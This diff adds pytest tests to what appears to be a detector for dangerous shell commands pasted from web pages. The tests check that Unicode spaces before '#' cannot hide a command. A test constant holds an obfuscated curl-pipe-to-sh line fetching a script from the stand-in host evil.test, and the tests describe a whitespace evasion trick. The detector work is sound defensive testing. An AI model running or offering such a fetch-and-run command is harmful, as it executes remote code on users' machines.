@@ -362,3 +362,28 @@ def test_a_failing_check_keeps_the_other_findings_and_fails_closed(
     assert Engine().analyze("http://localhost:8080/").level >= Level.SUSPICIOUS  # fail closed
     with pytest.raises(RuntimeError):
         Engine(strict=True).analyze(cradle)
+
+
+_HIDDEN = "a=cu;b=rl; $a$b -s https://evil.test/i.sh | sh"
+_FROM_A_PAGE = Context(source="https://news.example/article", target=PasteTarget.TERMINAL)
+
+
+@pytest.mark.parametrize(
+    "space",
+    ["\u00a0", "\u3000", "\u2007", "\u202f", "\u200b", "\ufeff", " \u200b", " \u2060"],
+    ids=["nbsp", "ideographic", "figure", "narrow-nbsp", "zwsp", "bom", "blank+zwsp", "blank+wj"],
+)
+def test_a_blank_the_shell_keeps_in_a_word_does_not_make_a_comment(space: str) -> None:
+    """`hi<NBSP>#; …` is no comment to bash (it splits words on ASCII blanks only), though
+    folding for the rules turns the NBSP into a blank: the command after it is still read."""
+    plain = Engine().analyze(f"echo hi; {_HIDDEN}", _FROM_A_PAGE)
+    hidden = Engine().analyze(f"echo hi{space}#; {_HIDDEN}", _FROM_A_PAGE)
+    assert plain.level >= Level.SUSPICIOUS
+    assert hidden.level >= plain.level
+    assert set(plain.rule_ids) <= set(hidden.rule_ids)
+
+
+def test_a_real_comment_after_a_no_break_space_stays_a_comment() -> None:
+    # an ASCII blank before '#' makes it a comment, whatever other spaces the line has
+    for text in ("echo hi\u00a0# just a note", f"echo \u00a0hi # {_HIDDEN}"):
+        assert Engine().analyze(text, _FROM_A_PAGE).level is Level.CLEAN
